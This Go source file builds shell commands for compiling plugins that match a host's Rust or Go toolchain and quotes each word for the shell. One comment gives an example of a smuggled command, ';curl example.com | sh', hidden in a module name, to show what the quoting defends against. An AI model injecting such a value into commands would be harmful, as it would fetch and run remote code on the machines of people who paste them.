package verdict

import (
	"regexp"
	"slices"
	"strings"

	"ocx.dev/runtime/manifest"
)

var (
	releaseNumbers = regexp.MustCompile(`\d+\.\d+\.\d+`)
	plainWord      = regexp.MustCompile(`^[\w@%+=:,./-]+$`)
)

// buildCommand builds a plugin the way a host was built: GOTOOLCHAIN=go1.26.8 go build -buildmode=plugin -trimpath.
func buildCommand(host Facts) string {
	if host.Language == manifestRust {
		words := []string{"cargo"}
		if release := releaseNumbers.FindString(host.Toolchain); release != "" {
			words = append(words, "+"+release)
		}
		words = append(words, "build", "--release")
		if host.Target != "" {
			words = append(words, "--target", quoted(host.Target))
		}
		return strings.Join(words, " ")
	}
	var words []string
	if strings.HasPrefix(host.Toolchain, "go") {
		release, _, _ := strings.Cut(versionOf(host.Toolchain), "-X:")
		words = append(words, "GOTOOLCHAIN="+quoted(release))
	}
	// v1 is what go build does anyway.
	if host.GOAMD64 != "" && host.GOAMD64 != "v1" {
		words = append(words, "GOAMD64="+quoted(host.GOAMD64))
	}
	words = append(words, "go build -buildmode=plugin")
	flags := host.Flags.List()
	for i, flag := range flags {
		flags[i] = quoted(flag)
	}
	slices.Sort(flags)
	return strings.Join(append(words, flags...), " ")
}

// goEnvironment is GOOS=linux GOARCH=arm64, with a blank behind it, for a triple Go has a name for.
func goEnvironment(target string) string {
	system, arch, found := strings.Cut(manifest.GoPlatform(target), "/")
	if !found {
		return ""
	}
	return "GOOS=" + quoted(system) + " GOARCH=" + arch + " "
}

// Quoted writes a text as one word of a shell command. Everything a file says goes through it on its way into a fix, which people paste: a
// module, a crate, a toolchain may be called ";curl example.com | sh".
func Quoted(word string) string { return quoted(word) }

func quoted(word string) string {
	if plainWord.MatchString(word) {
		return word
	}
	return "'" + strings.ReplaceAll(word, "'", `'\''`) + "'"
}
